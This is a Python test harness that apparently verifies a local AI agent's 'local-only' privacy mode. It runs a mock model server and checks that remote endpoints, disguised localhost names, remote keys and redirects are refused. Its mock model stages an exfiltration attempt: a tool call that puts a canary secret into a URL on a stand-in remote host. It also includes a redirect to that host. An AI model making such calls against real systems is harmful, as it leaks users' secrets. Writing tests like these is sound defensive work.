"""What ``audit --verify`` tries: runs that must stay local, and runs that must be refused."""

import json
import os
import threading
from collections.abc import Callable, Generator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar

from attrs import frozen

from inhouse import processes
from inhouse.processes import Finished

REMOTE = "192.0.2.7"
_KEY = "sk-verify-key-of-nobody"


@frozen
class ProbeOutcome:
    name: str
    passed: bool
    outcome: str


@frozen
class Bench:
    """A workspace with a canary in it, and a model server on loopback."""

    folder: Path
    canary: str
    url: str

    def run(
        self, *, provider: str = "", tools: str = "", privacy: str = "local-only", **variables: str
    ) -> Finished:
        """Run the probe's agent in another process, as a user would."""
        workspace = self.folder / "workspace"
        (workspace / ".agents").mkdir(parents=True, exist_ok=True)
        (workspace / "secret.txt").write_text(f"{self.canary}\n")
        (workspace / "inhouse.toml").write_text(f'privacy = "{privacy}"\n')
        (workspace / ".agents/probe.json").write_text(
            json.dumps(
                {
                    "id": "probe",
                    "displayName": "Probe",
                    "model": "probe/model",
                    "toolNames": ["read_files", tools] if tools else ["read_files"],
                }
                | ({"localProvider": {"baseUrl": provider}} if provider else {})
            )
        )
        kept = {name: os.environ[name] for name in ("PATH", "LANG") if name in os.environ}
        proxy = f"http://{REMOTE}:3128"
        environment = {
            **kept,
            "HOME": str(self.folder),
            "INHOUSE_HOME": str(self.folder / "home"),
            "HTTP_PROXY": proxy,
            "HTTPS_PROXY": proxy,
            "http_proxy": proxy,
            "ALL_PROXY": proxy,
            "SOMETHING_SECRET": self.canary,
            **variables,
        }
        words = ("run", "probe", self.canary, "--json", "--trust")
        return processes.run_blocking(
            processes.python("inhouse", *words), seconds=60, cwd=workspace, environment=environment
        )


def local_run(bench: Bench) -> ProbeOutcome:
    """Probe: a model on loopback reads the canary's file and answers."""
    done = bench.run(provider=f"{bench.url}/ok/v1")
    good = done.code == 0 and b'"status": "completed"' in done.out
    return ProbeOutcome(
        "a run on loopback, with proxy variables set",
        good,
        "completed" if good else _last(done),
    )


def remote_address(bench: Bench) -> ProbeOutcome:
    return _refused("an endpoint at a remote address", bench.run(provider=f"http://{REMOTE}/v1"))


def remote_name(bench: Bench) -> ProbeOutcome:
    done = bench.run(provider="https://llm.inhouse-verify.example/v1")
    return _refused("an endpoint with a remote name", done)


def disguised_name(bench: Bench) -> ProbeOutcome:
    done = bench.run(provider="http://localhost.inhouse-verify.example/v1")
    return _refused("a name that only looks like localhost", done)


def remote_key(bench: Bench) -> ProbeOutcome:
    done = bench.run(OPENROUTER_API_KEY=_KEY)
    return _refused("a key of a remote service in the environment", done)


def redirect(bench: Bench) -> ProbeOutcome:
    done = bench.run(provider=f"{bench.url}/redirect/v1")
    return _failed("a server on loopback that sends the client elsewhere", done)


def page(bench: Bench) -> ProbeOutcome:
    """Probe: the model asks for a web page with the canary in its address."""
    done = bench.run(provider=f"{bench.url}/page/v1", tools="read_url")
    good = done.code == 0
    return ProbeOutcome(
        "a model that asks for a page of the web", good, "told no" if good else _last(done)
    )


PROBES: tuple[Callable[[Bench], ProbeOutcome], ...] = (
    local_run,
    remote_address,
    remote_name,
    disguised_name,
    remote_key,
    redirect,
    page,
)


@contextmanager
def open_bench(folder: Path, canary: str) -> Generator[Bench]:
    """Start a model server on a free loopback port, and make the folder for the probes."""
    handler = type("Handler", (_Model,), {"canary": canary})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, name="probe server", daemon=True)
    thread.start()
    try:
        yield Bench(folder, canary, f"http://127.0.0.1:{server.server_port}")
    finally:
        server.shutdown()
        server.server_close()


class _Model(BaseHTTPRequestHandler):
    """An OpenAI-compatible server: calls one tool, then ends.  What it does is in the path."""

    canary: ClassVar[str]

    def do_GET(self) -> None:
        self._json(200, {"data": [{"id": "probe/model"}]})

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers.get("content-length", 0))))
        if self.path.startswith("/redirect"):
            self.send_response(307)
            self.send_header("location", f"http://{REMOTE}/v1/chat/completions")
            self.send_header("content-length", "0")
            self.end_headers()
            return
        answered = any(message["role"] == "tool" for message in body["messages"])
        delta: dict[str, Any] = {"content": self.canary} if answered else self._call()
        reason = "stop" if answered else "tool_calls"
        self.send_response(200)
        self.send_header("content-type", "text/event-stream")
        self.send_header("connection", "close")
        self.end_headers()
        pieces: tuple[dict[str, Any], ...] = (
            {"choices": [{"index": 0, "delta": delta, "finish_reason": None}]},
            {"choices": [{"index": 0, "delta": {}, "finish_reason": reason}]},
        )
        for piece in pieces:
            self.wfile.write(f"data: {json.dumps(piece)}\n\n".encode())
        self.wfile.write(b"data: [DONE]\n\n")

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002  named by its base class
        del format, args

    def _call(self) -> dict[str, Any]:
        name, arguments = "read_files", {"paths": ["secret.txt"]}
        if self.path.startswith("/page"):
            name, arguments = "read_url", {"url": f"http://{REMOTE}/{self.canary}"}
        call = {"name": name, "arguments": json.dumps(arguments)}
        return {"tool_calls": [{"index": 0, "id": "1", "type": "function", "function": call}]}

    def _json(self, status: int, value: object) -> None:
        body = json.dumps(value).encode()
        self.send_response(status)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


def _refused(name: str, done: Finished) -> ProbeOutcome:
    told = b"local-only" in done.errors + done.out
    good = done.code != 0 and told
    return ProbeOutcome(name, good, "refused" if good else f"not refused: {_last(done)}")


def _failed(name: str, done: Finished) -> ProbeOutcome:
    good = done.code != 0
    return ProbeOutcome(name, good, "not followed" if good else "it was followed")


def _last(done: Finished) -> str:
    return f"status {done.code}: {done.last_words[:300]}"
